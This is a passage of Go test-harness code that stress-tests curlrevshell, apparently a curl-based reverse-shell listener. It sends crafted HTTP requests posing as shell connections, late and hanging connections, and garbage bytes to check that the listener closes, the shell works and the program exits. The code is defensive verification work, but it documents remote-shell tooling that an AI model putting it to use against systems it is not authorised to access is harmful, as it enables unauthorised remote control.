		"flag spellings -f v | -f=v | --f v | --f=v, with -serve-files-from / -no-timestamps / -log drawn as elsewhere; the operator presses Tab (= Ctrl+I), Ctrl+J and Ctrl+O " +
		"while the shell is attached (after a Tab every non-empty line of the generated source must reach the fake shell, in order, between the typed lines around the key; the program must not end; " +
		"30 more lines and tokens follow and all traffic is compared as always; while muted only lines and unnumbered output pass, numbered tokens go on after the 'Unmuting' notice) " +
		"and after it has gone, before the one entered line (exit status 0 at that line at the latest, no callback help). " +
		"Every option, pair, size, spelling and key of the list has its own counter (keys_opt:*, keys_pair:*, ...), counted only for cases judged to the end, and a floor. " +
		"ICANHAZIP engine: -one-shell -icanhazip is started once (without network the program gives up before it listens: counted, nothing judged)"
	r.Assumptions = []string{
		"phase A ends when the harness STARTS the request that completes the shell (the listener may legitimately close before the ready notice reaches the terminal)",
		"a successful connect after the close counts only if the listener presents this program's certificate (another process may be given the freed port)",
		"output tokens are 16 bytes, one per HTTP chunk, so the broker's 2048-byte reads never split one; a tolerant second scan removes line-editor redraws",
		"progress bounds: refusal 20 s after the ready notice, exit 30 s after the one entered line, traffic 30 s; a fired bound is re-tried alone with the bound doubled, up to three times (the first two cases per bound; three in the thorough tier): " +
			"a violation is a bound that fired under load AND again in a run alone with the bound doubled",
		"clients hang up as soon as they are refused / their shell is gone (as curl does when its pipe ends); with hold=true (every tenth case by construction, one in six otherwise) they never hang up by themselves",
		"the same case is preceded by a crowd of 330-390 clients that were served or refused (GET /c, a file, a missing file) and keep their connections open to the end; one case in ten enters its one line only 23-31 s after the shell has gone (floor exits_after_an_unhurried_line; a program that has left by itself before that with status 0 is fine, with another status it is exit-status-nonzero)",
		"requests left hanging in the middle (every tenth case, the one whose refused uploads stay connected): before the real shell arrives, clients send a form POST to /c (curl -d c2=..., documented) of which only a part arrives (declared length, chunked), an OPTIONS * request with an unfinished body (answered by net/http itself, no handler of the program sees it), and GET /big.bin (64 MiB, sparse) whose answer they never read; they stay connected and silent to the end; this is traffic in flight when the listener closes, and the program must still exit at the operator's next line (key does-not-exit-after-one-line:request-in-progress-still-connected)",
		"the process is given 2 s (every fifth case 10 s) to exit by itself before exactly one empty line is entered",
		"late requests on pre-opened connections: whether they are served, refused or find their connection already closed is promised neither way and only counted (late_*); " +
			"judged are only the attached shell's traffic (during), and callback help / exit status / exit after one line (after)",
		"a late request that becomes a further fully attached shell after the only shell has ended is used (one chunk of output) and ended by its own client (request body ends) before the operator's line; " +
			"the operator types nothing while it is attached, and the one line is entered only after every pre-opened connection has spoken and (unless hold) hung up — " +
			"a line entered while a further shell is attached or while a silent connection is still pending is outside the statement",
		"since fix 0610514 the program closes every connection that is left once the one shell has gone, so a pre-opened connection that tries to speak afterwards finds itself closed (late_after_shell_requests_not_sent); the attempts are still made (floor late_after_shell_attempts) and whatever the program does with them is counted, never judged",
		"upload engine: a client that waits for '100 Continue' and does not get it within the notice bound sends its body anyway (curl does after 1 s) and is counted (upload_expect_100_continue_not_received); " +
			"the program as it stands answers an admitted upload's Expect at once (floor upload_expect_100_continue_received) — whether it does is not this property",
		"at-once engine: 'fully attached' is what the program itself reports (the ready notice); an at-once attempt without a ready notice promises nothing and is counted (atonce_attempts_without_ready_notice, atonce_cases_never_ready); " +
			"for the attempts whose halves race each other the yield is the program's scheduling, so only the input-first-for-a-while shape has a per-shape floor; " +
			"the program starts winding down the moment the listener is closed, which for so short a shell is at once, and notices it had queued then may never reach the terminal: " +
			"the END of the shell is therefore the gone notice or, failing that, every request of the shell answered to its end (handlers returned); " +
			"and a listener seen closed with no ready notice on the terminal is counted (atonce_listener_closed_without_a_ready_notice_on_the_terminal), never judged — " +
			"only refusals before the FIRST at-once attempt was started are violations of 'the listener stays open'; " +
			"the 1.5 s given to an attempt whose outcome may be silence (input request whose client has hung up) only decides when the next attempt starts",
		"at-once engine: five cases in six run the program built WITHOUT the race detector (as shipped): the detector's slow-down of every lock and channel operation moves the instants this engine is about " +
			"(the other engines keep the race-detector build; race reports are judged as before)",
		"at-once engine, refusal bound: when no refusal is seen 20 s after the ready notice the case is NOT run again (that would roll the program's scheduling dice again); the same process and poller are kept " +
			"and, once all other cases are done, watched alone for another 40 s (the first two such processes; three in the thorough tier): a violation is a listener that is still open then",
		"keys engine: what Tab / Ctrl+J / Ctrl+O print on the terminal is not this property; the notices ('Inserted n bytes' / 'Error working out what to insert', 'Muting until', 'Unmuting') are waited for (30 s while the shell is attached, 3 s after it has gone) only to order the harness' next step: " +
			"the typed line that follows a Tab is typed after the 'Inserted' notice, so the insert (one element of the program's input queue) precedes it in the shell's input stream; a missing notice while attached is inconclusive unless the program has ended (violation program-ends-while-its-one-shell-is-attached); after the shell has gone it is only counted",
		"keys engine: of an insert only the generated files' own non-empty lines are expected (the converters for .sh/.subr and unknown extensions pass a file on as it is, a directory is its *.sh/*.subr files in name order), as a subsequence of what arrives between the two typed lines; " +
			"whatever else the program adds there (its tab_list function) is not judged; with no or a missing -ctrl-i source nothing is expected",
		"keys engine: Ctrl+O is pressed only once every numbered token sent so far is on the terminal (a mute drops output, by design), and numbered tokens are sent again only after the 'Unmuting' notice (2 s of calm); generated content is lower-case letters, digits and punctuation, so nothing a key prints can look like a token or a typed line",
		"the later engines' pollers always close with RST (the original list draws RST or FIN): a FIN leaves a TIME_WAIT socket per connect and the many short cases would use up the machine's ephemeral ports",
	}
	if f := os.Getenv("C12_FORCE"); f != "" {
		r.Extra("forced_dimensions", f)
	}
	n := r.N(10, 150)
	nUp := r.N(6, 36)
	nAt := r.N(12, 96)
	nKeys := r.N(12, 72)
	nIcan := r.N(1, 4)
	var jobs []job
	for i := 0; i < n; i++ {
		jobs = append(jobs, job{"case", i})
	}
	// the short cases of the later engines alternate behind the original list (whose long-staying shell starts first)
	for k := 0; k < nUp || k < nAt || k < nKeys; k++ {
		if k < nKeys {
			jobs = append(jobs, job{"keys", k})
		}
		if k < nAt {
			jobs = append(jobs, job{"atonce", k})
		}
		if k < nUp {
			jobs = append(jobs, job{"upload", k})
		}
		if k < nIcan {
			jobs = append(jobs, job{"icanhazip", k})
		}
	}

	if os.Getenv("C12_LIST") != "" { // debugging aid: print the case list of this seed/tier and stop
		for _, j := range jobs {
			cfg, _, _ := jobCfg(r, j)
			fmt.Fprintf(os.Stderr, "%s %d %s\n", j.engine, j.index, cfg.sig())
		}
		r.Inconclusive("C12_LIST: nothing was run")
		return
	}
	if only := os.Getenv("C12_ENGINE"); only != "" { // debugging aid: one engine only (its floors alone cannot be met: exit 2 at best)
		var keep []job
		for _, j := range jobs {
			if j.engine == only {
				keep = append(keep, j)
			}
		}
		jobs = keep
		r.Extra("only_engine", only)
	}
	plainErr := make(chan error, 1)
	go func() { _, err := buildPlain(r.Work); plainErr <- err }()
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the program: " + err.Error())
		return
	}
	if err := <-plainErr; err != nil {
		r.Inconclusive("cannot build the program without the race detector: " + err.Error())
		return
	}
	results := make([]*result, len(jobs))
	mon.Parallel(len(jobs), 14, func(x int) {
		if !r.Want(jobs[x].engine, jobs[x].index) {
			return
		}
		results[x] = runJob(r, bin, jobs[x], false)
		r.Eval(1)
	})
	var maxLat time.Duration
	retried := map[string]int{}
	watched := map[string]int{}
	confirmed := map[string]bool{}
	sampled := map[string]bool{}
	// what the lists hold by construction (floors follow the lists, not the other way round)
	byConstr := map[string]int64{}
	for x, res := range results {
		if res == nil {
			continue
		}
		j := jobs[x]
		i := j.index
		merge(r, res, true)
		cf := res.cfg
		switch cf.Engine {
		case "upload":
			if cf.OutExpect != "" {
				byConstr["upload_expect"]++
			}
			if cf.OutExpect == "wait" {
				byConstr["upload_expect_wait"]++
			}
			if cf.Ending == "in-close" && cf.Hold && cf.OutExpect != "" && cf.FixedLen {
				byConstr["upload_linger_expect_fixed"]++
			}
			if cf.JunkExpect != "" {
				byConstr["upload_junk_expect"]++
			}
		case "atonce":
			byConstr["atonce"]++
			if cf.Order == "i-o" && cf.AtTiming == "after-a-while" {
				byConstr["atonce_det"]++
			}
		case "keys":
			keysByConstr(cf, byConstr)
		case "", "case":
			// the cases that leave requests hanging in the middle: every tenth case by construction, except that
			// an i-o case may make its refused attempts against the real first half instead (no crowd, no hanging requests)
			if cf.Kind == "full" && cf.Junk == "several" && cf.Hold && cf.JunkWhere == "pre" {
				byConstr["case_hanging"]++
				if cf.Files {
					byConstr["case_hanging_files"]++
				}
			}
		}
		if os.Getenv("C12_DEBUG") != "" {
			fmt.Fprintf(os.Stderr, "---- %s %d %+v\n%s\n", j.engine, i, res.cfg, strings.Join(res.tl.lines(), "\n"))
			if os.Getenv("C12_DEBUG") == "term" {
				fmt.Fprintf(os.Stderr, "---- terminal\n%q\n", res.term)
			}
		}
		r.Distinct(res.cfg.sig())
		if res.closeLat > maxLat {
			maxLat = res.closeLat
		}
		for _, v := range res.viol {
			r.Violate(j.engine, i, v.Key, v.What, res.witness())
		}
		for _, s := range res.inconc {
			r.Inconclusive(s)
		}
		// a fired bound: again, alone, bound doubled, up to three times
		for _, f := range res.fired {
			if confirmed[f.Key] {
				r.Count("bound_fired_again_after_confirmation", 1)
				r.Logf("%s %d: bound fired (%s); this bound is already a confirmed violation, not re-tried", j.engine, i, f.Key)
				continue
			}
			if retried[f.Key] >= r.N(2, 3) {
				r.Count("bound_fired_not_retried", 1)
				r.Inconclusive(fmt.Sprintf("%s %d: bound fired (%s) — not re-tried, %d case(s) with this bound were already re-tried alone", j.engine, i, f.Key, r.N(2, 3)))
				continue
			}
			retried[f.Key]++
			hit := false
			for rep := 1; rep <= 3 && !hit; rep++ {
				r.Logf("%s %d: bound fired (%s); re-running alone (%d of at most 3)", j.engine, i, f.Key, rep)
				r.Count("retries_alone", 1)
				again := runJob(r, bin, j, true)
				for _, f2 := range again.fired {
					if f2.Key == f.Key {
						hit = true
						confirmed[f.Key] = true
						r.Violate(j.engine, i, f.Key, f2.What+fmt.Sprintf(" [fired twice: under load and alone (run %d alone) with the bound doubled]", rep), again.witness())
					}
				}
				for _, v := range again.viol {
					hit = true
					r.Violate(j.engine, i, v.Key, v.What+" [seen in the re-run alone]", again.witness())
				}
			}
			if !hit {
				r.Inconclusive(fmt.Sprintf("%s %d: bound fired once under load (%s: %s) but not in three runs alone", j.engine, i, f.Key, f.What))
			}
		}
		// a bound fired and the process was kept: it is watched further now, alone
		if h := res.held; h != nil {
			if confirmed[h.Key] {
				h.release()
				r.Count("bound_fired_again_after_confirmation", 1)
			} else if watched[h.Key] >= r.N(2, 3) {
				h.release()
				r.Count("bound_fired_not_watched_alone", 1)
				r.Inconclusive(fmt.Sprintf("%s %d: bound fired (%s: %s) — not watched further, %d process(es) with this bound were already watched alone", j.engine, i, h.Key, h.What, r.N(2, 3)))
			} else {
				watched[h.Key]++
				r.Logf("%s %d: bound fired (%s); the same process is now watched alone for another %s", j.engine, i, h.Key, 2*boundClose)
				r.Count("processes_watched_alone", 1)
				still, detail := h.confirm(2 * boundClose)
				h.release()
				if still {
					confirmed[h.Key] = true
					r.Violate(j.engine, i, h.Key, h.What+fmt.Sprintf(" [the bound fired under load and the same process, watched alone for another %s, did not get there either: %s]", 2*boundClose, detail), res.witness())
				} else {
					r.Inconclusive(fmt.Sprintf("%s %d: bound fired once under load (%s: %s) but %s", j.engine, i, h.Key, h.What, detail))
				}
			}
		}
		switch {
		case res.cfg.Engine != "":
			if res.full && !sampled[res.cfg.Engine] && (res.cfg.Kind != "atonce" || res.counts["shells_ready"] > 0) {
				sampled[res.cfg.Engine] = true
				r.Sample(res.cfg.Engine+" engine timeline", map[string]any{"config": res.cfg, "timeline": compact(res.tl.lines())})
			}
		case res.cfg.Kind == "full" && res.full && !sampled[res.cfg.Order] && len(sampled) < 2:
			sampled[res.cfg.Order] = true
			r.Sample("one-shell timeline", map[string]any{"config": res.cfg, "timeline": compact(res.tl.lines())})
		case res.cfg.Kind == "never" && res.full && !sampled["never"]:
			sampled["never"] = true
			r.Sample("never-completed shell timeline", map[string]any{"config": res.cfg, "timeline": compact(res.tl.lines())})
		}
	}
	r.Extra("max_close_latency_ms", ms(maxLat))
	if os.Getenv("C12_ENGINE") == "" || os.Getenv("C12_ENGINE") == "case" {
		full := int64(n - n/10)
		r.Floor("runs", int64(n))
		r.Floor("runs_complete", int64(n)*6/10)
		r.Floor("runs_never_completed_shell", int64(n/10))
		r.Floor("poller_connects", int64(n)*100)
		r.Floor("connects_ok_before_ready", int64(n)*20)
		r.Floor("refused_after_close", full*8)
		r.Floor("tokens_out_checked", full/2*200)
		r.Floor("lines_in_checked", full*6/10*200)
		r.Floor("help_after_gone_scans", full*6/10)
		r.Floor("exits_observed", full*6/10)
		r.Floor("tokens_sent_after_refusal", full/2*50)
		r.Floor("lines_typed_after_refusal", full*6/10*50)
		// the late speakers
		r.Floor("late_runs_with_preopened_silent_connections", full*8/10)
		r.Floor("late_conns_opened", full*3*8/10)
		r.Floor("late_conns_opened_tls_handshake_done", full)
		r.Floor("late_conns_opened_tcp_only", full)
		r.Floor("late_requests_during_shell", full*2*6/10)
		r.Floor("late_shell_requests_during_shell", full*6/10)
		r.Floor("lines_typed_after_late_requests", full*6/10*30)
		// (since fix 0610514 the program closes what is left when the one shell has gone: a
		// pre-opened connection can no longer speak afterwards; the attempts are still made)
		r.Floor("late_after_shell_attempts", full*6/10)
		// requests left hanging in the middle (one case in ten)
		// (never more than the list holds: of the every-tenth cases those in order i-o may draw the other junk place)
		hanging := min(int64(n/10), max(1, byConstr["case_hanging"]))
		r.Floor("junk_requests_in_progress_left_hanging", hanging*4)
		r.Floor("junk_downloads_left_hanging", min(int64(n/10), max(1, byConstr["case_hanging_files"])))
		r.Floor("junk_crowd_connections_answered_and_kept_open", hanging*300)
		r.Floor("exits_after_an_unhurried_line", int64(n/20))
	}
	if r.Replaying() {
		return
	}
	if os.Getenv("C12_ENGINE") == "" || os.Getenv("C12_ENGINE") == "upload" {
		// the upload engine: the shell's output request with method / framing / Expect variants
		r.Floor("upload_runs", int64(nUp))
		r.Floor("upload_runs_complete", int64(nUp)*2/3)
		r.Floor("upload_shell_uploads_with_expect_100_continue", byConstr["upload_expect"]*2/3)
		r.Floor("upload_expect_100_continue_received", byConstr["upload_expect_wait"]*2/3)
		r.Floor("upload_lingering_uploads_with_expect_and_content_length_judged_to_the_end", max(1, byConstr["upload_linger_expect_fixed"]*2/3))
		r.Floor("upload_junk_refused_uploads_with_expect_100_continue", max(1, byConstr["upload_junk_expect"]*2/3))
		r.Floor("upload_tokens_out_checked", int64(nUp)*2/3*80)
		r.Floor("upload_lines_in_checked", int64(nUp)*2/3*80)
		r.Floor("upload_exits_observed", int64(nUp)*2/3)
		r.Floor("upload_refused_after_close", int64(nUp)*8)
	}
	if os.Getenv("C12_ENGINE") == "" || os.Getenv("C12_ENGINE") == "keys" {
		keysFloors(r, nKeys, nIcan, byConstr)
	}
	if os.Getenv("C12_ENGINE") == "" || os.Getenv("C12_ENGINE") == "atonce" {
		// the at-once engine: shells that are over the moment they are complete
		r.Floor("atonce_runs", int64(nAt))
		r.Floor("atonce_runs_complete", int64(nAt)*2/3)
		r.Floor("atonce_attempts", int64(nAt))
		// five cases in twelve become a shell whatever the program's scheduling; the floors stay below that share
		r.Floor("atonce_shells_ready", int64(nAt)/3)
		r.Floor("atonce_shells_ready:i-o/after-a-while", max(1, byConstr["atonce_det"]*2/3))
		r.Floor("atonce_listener_seen_closed", int64(nAt)/3)
		r.Floor("atonce_shells_judged_to_the_end", int64(nAt)/3)
		r.Floor("atonce_exits_observed", int64(nAt)/3)
		r.Floor("atonce_help_after_gone_scans", int64(nAt)/3)
		r.Floor("atonce_refused_after_close", int64(nAt)/3*8)
		for _, f := range atFrames {
			r.Floor("atonce_shells_ready:frame:"+f, 1)
		}
		if _, err := os.Stat("/usr/bin/curl"); err == nil {
			r.Floor("atonce_real_curl_uploads_of_dev_null", 1)
		}
	}
}

func compact(l []string) []string {
	if len(l) <= 60 {
		return l
	}
	return append(append([]string{}, l[:25]...), append([]string{fmt.Sprintf("... %d events ...", len(l)-55)}, l[len(l)-30:]...)...)
}

package c12

// Late speakers: connections that are opened (TCP only, or TCP and a completed
// TLS handshake) while the listener is still open — just before the request
// that completes the real shell is started — which then stay silent and send
// their request only LATER:
//
//	during  while the real shell is attached (after the listener was seen
//	        closed): the attached shell must keep working undisturbed, which
//	        the ordinary traffic check that follows decides;
//	after   after the real shell has ended and before the operator's line: the
//	        program must still exit with status 0 after at most the one entered
//	        line, and must print no callback help.
//
// Whether such a late request is served, refused or finds its connection
// closed is promised neither way: it is counted, never judged.  A request that
// becomes a SECOND fully attached shell is used by its client (one chunk of
// output) and ended by its client before the operator's line; the operator
// types nothing while it is attached.

import (
	"bufio"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"regexp"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// lateAnswer bounds the wait for the program's reaction to a late request (a
// notice on the terminal, an HTTP answer).  Its expiry is never a verdict: the
// request is counted as unanswered.
const lateAnswer = 10 * time.Second

var (
	lateShellKinds = []string{"io", "pair", "io", "pair", "half"}
	lateGetKinds   = [][]string{{"c"}, {"file"}, {"c", "file"}, {"garbage"}}
)

// lateCfg draws what the pre-opened connections of full case i (the k-th full
// case) will ask for.  Its own PRNG stream: the older dimensions of a case do
// not depend on it.
func lateCfg(c *Cfg, rng *rand.Rand, k, rot int) {
	if c.Kind != "full" {
		return
	}
	// while the shell is attached: one request that wants to be a shell and one that does not
	d1 := []string{"io", "pair", "dup"}[(k/5+rot+rng.IntN(2))%3]
	if d1 == "dup" && c.Order == "curl" {
		d1 = "io" // the ID of a curl|sh shell is the script's own
	}
	d2 := []string{"c", "file", "garbage", "half"}[rng.IntN(4)]
	c.LateDuring = []string{d1, d2}
	if rng.IntN(2) == 0 {
		c.LateDuring = []string{d2, d1}
	}
	// after it has ended: the kind of would-be shell is stratified by index, the rest is drawn
	sh := lateShellKinds[(k+rot)%len(lateShellKinds)]
	c.LateAfter = []string{sh}
	if rng.IntN(5) == 0 && sh != "half" {
		// a third shell after the second one
		c.LateAfter = append(c.LateAfter, map[string]string{"io": "pair", "pair": "io"}[sh])
	}
	c.LateAfter = append(c.LateAfter, lateGetKinds[rng.IntN(len(lateGetKinds))]...)
}

func lateSig(c Cfg) string {
	if len(c.LateDuring)+len(c.LateAfter) == 0 {
		return ""
	}
	return "|late=" + strings.Join(c.LateDuring, "+") + "/" + strings.Join(c.LateAfter, "+")
}

// lateConn is one pre-opened connection.
type lateConn struct {
	label  string
	tlsPre bool // the TLS handshake was completed when it was opened
	raw    net.Conn
	c      *hk.Conn // after the handshake
	opened time.Time
	failed bool // could not be opened at all
	closed bool // hung up by its client
	stay   bool // never speaks and never hangs up (C12_FORCE=lateafter=silent only)
}

func (l *lateConn) Close() {
	if l.raw != nil {
		l.raw.Close()
	}
	l.closed = true
}

func (l *lateConn) how() string {
	if l.tlsPre {
		return "TCP+TLS"
	}
	return "TCP only"
}

// handshake completes the TLS handshake if that was not done at opening time.
func (l *lateConn) handshake(d time.Duration) error {
	if l.failed || l.raw == nil {
		return errors.New("was never opened")
	}
	if l.c != nil {
		return nil
	}
	tc := tls.Client(l.raw, &tls.Config{InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(d))
	if err := tc.Handshake(); err != nil {
		return fmt.Errorf("TLS handshake: %w", err)
	}
	tc.SetDeadline(time.Time{})
	l.c = &hk.Conn{Conn: tc, R: bufio.NewReader(tc)}
	return nil
}

// gone reports whether the program has already closed this still-silent
// connection (the server never speaks first, so anything but a time-out on a
// short read means the connection is over).  Only steers what is counted.
func (l *lateConn) gone() bool {
	if l.failed || l.raw == nil || l.closed {
		return true
	}
	var err error
	if l.c != nil {
		l.c.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		_, err = l.c.R.Peek(1)
		l.c.SetReadDeadline(time.Time{})
	} else {
		l.raw.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		_, err = l.raw.Read(make([]byte, 1))
		l.raw.SetReadDeadline(time.Time{})
	}
	var ne net.Error
	return err != nil && !(errors.As(err, &ne) && ne.Timeout())
}

// send completes the handshake if need be and writes req.
func (l *lateConn) send(d time.Duration, req string) error {
	if err := l.handshake(d); err != nil {
		return err
	}
	l.c.SetWriteDeadline(time.Now().Add(d))
	_, err := io.WriteString(l.c, req)
	l.c.SetWriteDeadline(time.Time{})
	return err
}

func lateNeeds(kind string) int {
	if kind == "pair" {
		return 2
	}
	return 1
}

// openLate opens the connections of both phases; those that speak after the
// shell has ended are opened last.
func (e *env) openLate() {
	c := e.cfg
	if len(c.LateDuring)+len(c.LateAfter) == 0 {
		return
	}
	j := e.lrng.IntN(2)
	open := func(phase string, kinds []string) [][]*lateConn {
		var out [][]*lateConn
		for _, kind := range kinds {
			var cs []*lateConn
			for x := 0; x < lateNeeds(kind); x++ {
				cs = append(cs, e.dialLate(fmt.Sprintf("%s %s #%d", phase, kind, x), j%2 == 0))
				j++
			}
			out = append(out, cs)
		}
		return out
	}
	e.lateD = open("during-shell", c.LateDuring)
	e.lateA = open("after-shell", c.LateAfter)
	e.res.count("late_runs_with_preopened_silent_connections", 1)
}

func (e *env) dialLate(label string, tlsPre bool) *lateConn {
	l := &lateConn{label: label, tlsPre: tlsPre, opened: time.Now()}
	raw, err := net.DialTimeout("tcp", e.addr, 5*time.Second)
	if err != nil {
		l.failed = true
		e.tl.add("LATE  %s: cannot be opened: %v", label, err)
		e.res.count("late_conns_not_opened", 1)
		return l
	}
	l.raw = raw
	e.keep(l)
	if tlsPre {
		if err := l.handshake(crs.Bound); err != nil {
			l.failed = true
			e.tl.add("LATE  %s: %v", label, err)
			e.res.count("late_conns_not_opened", 1)
			return l
		}
		e.res.count("late_conns_opened_tls_handshake_done", 1)
	} else {
		e.res.count("late_conns_opened_tcp_only", 1)
	}
	e.res.count("late_conns_opened", 1)
	e.tl.add("LATE  %s: opened (%s), silent", label, l.how())
	return l
}

// lateHangUp: what the client of a late request does with its connection once
// it is through with it: hang up, or (hold) stay connected for ever.
func (e *env) lateHangUp(what string, cs ...*lateConn) {
	for _, l := range cs {
		if l.failed || l.closed {
			continue
		}
		if e.cfg.Hold {
			e.held = append(e.held, fmt.Sprintf("pre-opened connection %q (%s)", l.label, what))
			continue
		}
		l.Close()
	}
}

// lateAlive sorts out connections the program has closed before they spoke.
func (e *env) lateAlive(phase string, cs []*lateConn) bool {
	for _, l := range cs {
		if l.gone() {
			e.tl.add("LATE  %s: closed by the program before it spoke (%.0f ms after it was opened)", l.label, ms(time.Since(l.opened)))
			e.res.count("late_"+phase+"_conn_closed_before_it_spoke", 1)
			e.res.count("late_"+phase+"_attempts", 1) // its client was about to speak
			for _, o := range cs {
				o.Close()
			}
			return false
		}
	}
	return true
}

var lateReactRe = regexp.MustCompile(`Shell is ready to go!|Rejected [^\r\n]{0,80}`)

// lateDuring: pre-opened connections speak while the real shell is attached
// and carrying traffic.  realID "" = unknown (curl|sh).
func (e *env) lateDuring(realID string) {
	c := e.cfg
	for idx, kind := range c.LateDuring {
		cs := e.lateD[idx]
		if !e.lateAlive("during_shell", cs) {
			continue
		}
		mark := e.s.P.CleanLen()
		id := fmt.Sprintf("ld%d-%s", idx, c.ID)
		var reqs []string
		refusedOut := false
		switch kind {
		case "io":
			reqs = []string{"POST /io HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\nf\r\nREFUSED-OUTPUT\n\r\n"}
			refusedOut = true
		case "pair":
			reqs = []string{"GET /i/" + id + " HTTP/1.1\r\nHost: fake.shell\r\n\r\n",
				"POST /o/" + id + " HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\nf\r\nREFUSED-OUTPUT\n\r\n"}
			refusedOut = true
		case "half":
			reqs = []string{"GET /i/" + id + " HTTP/1.1\r\nHost: fake.shell\r\n\r\n"}
		case "dup":
			reqs = []string{"GET /i/" + realID + " HTTP/1.1\r\nHost: fake.shell\r\n\r\n"}
		case "c", "file", "garbage":
			e.lateGet("during_shell", kind, cs[0])
			continue
		}
		want := 0
		for x, rq := range reqs {
			if err := cs[x].send(crs.Bound, rq); err != nil {
				e.tl.add("LATE  %s: request could not be sent: %v", cs[x].label, err)
				e.res.count("late_during_shell_requests_not_sent", 1)
				continue
			}
			want++
			e.res.count("late_requests_during_shell", 1)
			e.res.count("late_shell_requests_during_shell", 1)
			e.tl.add("LATE  %s (%s, %.0f ms old): sent %q while the real shell is attached", cs[x].label, cs[x].how(), ms(time.Since(cs[x].opened)), firstLine(rq))
		}
		// the program's reaction, if any: counted
		from := mark
		for ; want > 0; want-- {
			loc, ok := e.s.P.WaitFor(lateReactRe, from, lateAnswer*e.mult)
			if !ok {
				e.res.count("late_during_shell_requests_unanswered", int64(want))
				e.tl.add("LATE  no reaction to %d request(s) of kind %s within %s", want, kind, lateAnswer*e.mult)
				break
			}
			from = loc[1]
			if strings.HasPrefix(e.s.P.Clean()[loc[0]:loc[1]], "Shell is ready") {
				e.res.count("late_during_shell_requests_became_a_shell", 1)
			} else {
				e.res.count("late_during_shell_requests_rejected", 1)
			}
		}
		if refusedOut && c.Hold {
			e.heldRefusedOut++
		}
		e.lateHangUp("request made while the shell was attached: "+kind, cs...)
	}
}

func firstLine(s string) string {
	if i := strings.Index(s, "\r\n"); i >= 0 {
		return s[:i]
	}
	return s
}

// lateGet: a request that does not want to be a shell (the callback script, a
// file, bytes that are not HTTP) on a pre-opened connection.
func (e *env) lateGet(phase, kind string, l *lateConn) {
	var req string
	switch kind {
	case "c":
		req = "GET /c HTTP/1.1\r\nHost: " + e.addr + "\r\n\r\n"
	case "file":
		req = "GET /f.txt HTTP/1.1\r\nHost: " + e.addr + "\r\n\r\n"
	default:
		req = "\x00\x01\x02 this is not HTTP\r\n\r\n"
	}
	if err := l.send(crs.Bound, req); err != nil {
		e.tl.add("LATE  %s: request could not be sent: %v", l.label, err)
		e.res.count("late_"+phase+"_requests_not_sent", 1)
		l.Close()
		return
	}
	e.res.count("late_requests_"+phase, 1)
	l.c.SetReadDeadline(time.Now().Add(lateAnswer * e.mult))
	rs, err := hk.ReadResponse(l.c.R, []byte("GET "))
	l.c.SetReadDeadline(time.Time{})
	switch {
	case err != nil:
		e.tl.add("LATE  %s (%s, %.0f ms old): %q -> %v", l.label, l.how(), ms(time.Since(l.opened)), firstLine(req), err)
		e.res.count("late_"+phase+"_"+kind+"_requests_without_answer", 1)
	default:
		e.tl.add("LATE  %s (%s, %.0f ms old): %q -> %d (%d bytes)", l.label, l.how(), ms(time.Since(l.opened)), firstLine(req), rs.Status, len(rs.Body))
		e.res.count(fmt.Sprintf("late_%s_%s_requests_answered_%dxx", phase, kind, rs.Status/100), 1)
	}
	e.lateHangUp(fmt.Sprintf("request %q answered", firstLine(req)), l)
}

// lateAfter: pre-opened connections speak after the real shell has ended,
// before the operator enters anything.
func (e *env) lateAfter() {
	c := e.cfg
	for idx, kind := range c.LateAfter {
		if e.s.P.Exited() {
			e.tl.add("LATE  the program has exited; the remaining pre-opened connections say nothing")
			break
		}
		cs := e.lateA[idx]
		if !e.lateAlive("after_shell", cs) {
			continue
		}
		switch kind {
		case "io", "pair", "half":
			e.lateShell(idx, kind, cs)
		case "silent":
			// Only through C12_FORCE, never in a case list: a connection that never says anything and never hangs
			// up.  net/http's graceful shutdown gives such a connection five seconds from its accept; a line
			// entered within them is read before the shutdown completes and a second one is needed.  When "the
			// operator's next line" may be entered is not pinned down by the statement (the same holds for a line
			// entered within the shutdown's polling interval of half a second after the shell ended), so the
			// case lists enter it only after every connection has spoken.
			cs[0].stay = true
			e.held = append(e.held, fmt.Sprintf("pre-opened connection %q (never said anything)", cs[0].label))
			e.tl.add("LATE  %s (%s, %.0f ms old) stays connected and silent", cs[0].label, cs[0].how(), ms(time.Since(cs[0].opened)))
		default:
			e.lateGet("after_shell", kind, cs[0])
		}
	}
	// nobody stays connected and silent: whoever has not spoken hangs up now
	for _, set := range [][][]*lateConn{e.lateD, e.lateA} {
		for _, cs := range set {
			for _, l := range cs {
				if !l.failed && !l.closed && !l.stay && !e.cfg.Hold {
					l.Close()
				}
			}
		}
	}
}

var lateGoneRe = regexp.MustCompile(`Shell is gone :\(`)

// lateShell: a would-be shell on pre-opened connections after the only shell
// has ended.
func (e *env) lateShell(idx int, kind string, cs []*lateConn) {
	res := e.res
	id := fmt.Sprintf("la%d-%s", idx, e.cfg.ID)
	mark := e.s.P.CleanLen()
	var outC *lateConn
	type rq struct {
		l   *lateConn
		req string
	}
	var reqs []rq
	switch kind {
	case "io":
		reqs = []rq{{cs[0], "POST /io HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n"}}
		outC = cs[0]
	case "pair":
		reqs = []rq{{cs[0], "GET /i/" + id + " HTTP/1.1\r\nHost: fake.shell\r\n\r\n"},
			{cs[1], "POST /o/" + id + " HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n"}}
		outC = cs[1]
		if e.lrng.IntN(2) == 0 {
			reqs[0], reqs[1] = reqs[1], reqs[0]
		}
	case "half":
		reqs = []rq{{cs[0], "GET /i/" + id + " HTTP/1.1\r\nHost: fake.shell\r\n\r\n"}}
	}
	for _, q := range reqs {
		res.count("late_after_shell_attempts", 1)
		if err := q.l.send(crs.Bound, q.req); err != nil {
			e.tl.add("LATE  %s: request could not be sent: %v", q.l.label, err)
			res.count("late_after_shell_requests_not_sent", 1)
			for _, l := range cs {
				l.Close()
			}
			return
		}
		res.count("late_requests_after_shell", 1)
